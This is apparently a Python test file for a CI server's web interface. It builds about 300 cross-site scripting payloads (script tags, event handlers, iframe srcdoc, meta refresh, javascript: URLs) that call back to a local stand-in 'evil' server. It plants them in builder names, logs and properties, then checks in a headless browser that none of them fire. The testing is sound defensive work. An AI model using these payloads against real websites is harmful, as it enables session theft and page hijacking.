"""C-05: texts of others stay texts in a browser, whatever they hold, on each page that shows them.

A real browser is given the very bytes of the server's answers. Each payload that works asks another server for
something, or changes the page; that the payloads are live is shown by the same text without our headers.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Dialog, Error, Page

from tests.chromium import chromium
from tests.database import NOW, open_stage
from tests.replay import Replay
from tests.scene import Scene
from tests.unit.master.web.conftest import Face

DEEDS = (
    "fetch('{hit}')", "new Image().src='{hit}'", "document.title='owned'", "location='{hit}'", "alert(1)",
    "document.body.id='owned'",
)  # fmt: skip
VECTORS = (
    "<script>{deed}</script>",
    '<img src=x onerror="{deed}">',
    '<svg onload="{deed}">',
    "<svg><script>{deed}</script></svg>",
    '<body onload="{deed}">',
    '<iframe srcdoc="<script>parent.{deed}</script>"></iframe>',
    '<iframe src="{hit}"></iframe>',
    '<img src="{hit}">',
    '<link rel=stylesheet href="{hit}">',
    "<style>@import '{hit}';</style>",
    '<object data="{hit}"></object>',
    '<embed src="{hit}">',
    '<video src="{hit}" autoplay></video>',
    '<input autofocus onfocus="{deed}">',
    '<details open ontoggle="{deed}">',
    '<meta http-equiv=refresh content="0;url={hit}">',
    '<base href="{hit}/"><script src=x></script>',
    '<marquee onstart="{deed}">',
    '<form action="{hit}"><button autofocus></form>',
    "<math><mtext><script>{deed}</script>",
    '<div style="background:url({hit})">x</div>',
    '<a href="javascript:{deed}" id=click>x</a>',
)
BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</td></tr></table>",
    "]]>",
    "-->",
    "</script>",
    "\x1b]8;;javascript:1\x07",
    "\u2028",
)


def payloads(hit: str) -> list[str]:
    """Some 300, each with a deed of its own."""
    found = []
    for number, (before, vector) in enumerate((b, v) for b in BREAKS for v in VECTORS):
        deed = DEEDS[number % len(DEEDS)].format(hit=f"{hit}/{number}")
        found.append(before + vector.format(deed=deed, hit=f"{hit}/{number}"))
    found += [f"javascript:fetch('{hit}/{n}')//{n}" for n in range(80)]
    return found


def page(content: bytes, policy: bytes = b"") -> bytes:
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nConnection: close\r\n" + policy
    return head + b"\r\n" + content


@pytest.fixture(scope="module")
def evil() -> Iterator[Replay]:
    """Where payloads call home; some of them are at `/control`."""

    def answer(path: str) -> bytes:
        return page("\n".join(payloads(server.url)[:60:7]).encode() if path == "/control" else b"")

    server = Replay(answer)
    yield server
    server.close()


class Window:
    """A page of the browser.

    Attributes:
        dialogs: texts of all that were opened.
    """

    def __init__(self, page: Page) -> None:
        self.page = page
        self.dialogs: list[str] = []
        page.on("dialog", self._opened)

    def _opened(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def open(self, url: str) -> None:
        """Go there; returns when the page is loaded, or is a download."""
        try:
            self.page.goto(url)
        except Error as error:
            if "Download is starting" not in error.message:
                raise


@pytest.fixture(scope="module")
def window() -> Iterator[Window]:
    with chromium() as browser:
        yield Window(browser.new_page())


@pytest.fixture(scope="module")
def served(evil: Replay, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, bytes]]:
    """The server's answers by path, all of them full of payloads."""
    stage = open_stage()
    folder: Path = tmp_path_factory.mktemp("logs")
    scene = Scene(stage, folder)
    texts = payloads(evil.url)
    everything = "\n".join(texts)

    async def fill() -> int:
        updates = scene.updates
        names = [{"name": text, "tags": [text], "description": text} for text in texts[:100]]
        await updates.configureBuilders(scene.master, [{"name": "fast", "tags": []}, *names])
        await updates.setBuildStateString(scene.running, everything)
        await updates.setBuildProperty(scene.running, "hostile", everything, "test")
        await updates.setBuildData(scene.finished, "page.html", everything.encode(), "test")
        await updates.addChange(author=texts[0], comments=everything, revision="r", branch=texts[1])
        log = await updates.addLog(scene.step, "report", "h")
        plain = await updates.addLog(scene.step, "text", "s")
        for each in (log, plain):
            writer = scene.logs.writer(each)
            writer.write("o", everything.encode(), NOW)
            await writer.finish()
        return log.logid

    html = stage.result(fill())
    face = Face(scene)
    paths = [
        "/", f"/api/v2/logs/{html}/raw_inline", f"/api/v2/logs/{html + 1}/raw_inline", "/api/v2/builders",
        "/api/v2/builds", "/api/v2/changes", "/api/v2/pages/front", "/api/v2/pages/builds/1",
        f"/api/v2/logs/{html}/contents", "/api/v2/builds/1/properties", "/config", "/metrics",
        "/badges/fast.svg?left_text=" + quote(texts[2][:90]), "/nothing/" + quote(texts[0], safe=""),
        "/auth/login?code=1&state=" + quote(texts[1], safe=""),
    ]  # fmt: skip
    answers = {}
    for path in paths:
        connection = face.connect()
        connection.send(
            f"GET {path} HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\nConnection: close\r\n\r\n".encode()
        )
        answers[path] = connection.received()
    yield answers
    face.close()
    scene.close()
    stage.close()


def test_the_payloads_are_live(window: Window, evil: Replay) -> None:
    evil.asked.clear()

    window.open(f"{evil.url}/control")
    window.page.wait_for_timeout(500)

    assert len(evil.asked) > 1
    window.dialogs.clear()


LOOK = """() => [
    location.origin, document.title, document.querySelectorAll('#owned, iframe, object, embed').length
]"""


def test_no_text_of_others_does_anything_in_a_browser(window: Window, evil: Replay, served: dict[str, bytes]) -> None:
    ours = Replay(lambda path: served.get(path, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"))
    problems = []
    try:
        for path in served:
            evil.asked.clear()
            window.open(f"{ours.url}{path}")
            where, title, owned = window.page.evaluate(LOOK)
            if window.dialogs:
                problems.append((path, f"dialogs {window.dialogs}"))
                window.dialogs.clear()
            if where not in (ours.url, "null") or title == "owned":
                problems.append((path, f"{where} {title}"))
            if owned and "/raw_inline" not in path:  # there they are, and can do nothing
                problems.append((path, "elements of somebody else"))
            if evil.asked:
                problems.append((path, f"asked for {evil.asked[:3]}"))
    finally:
        ours.close()

    assert problems == []
    assert len(payloads("")) >= 300
    assert all(status.startswith(b"HTTP/1.1 ") for status in served.values())
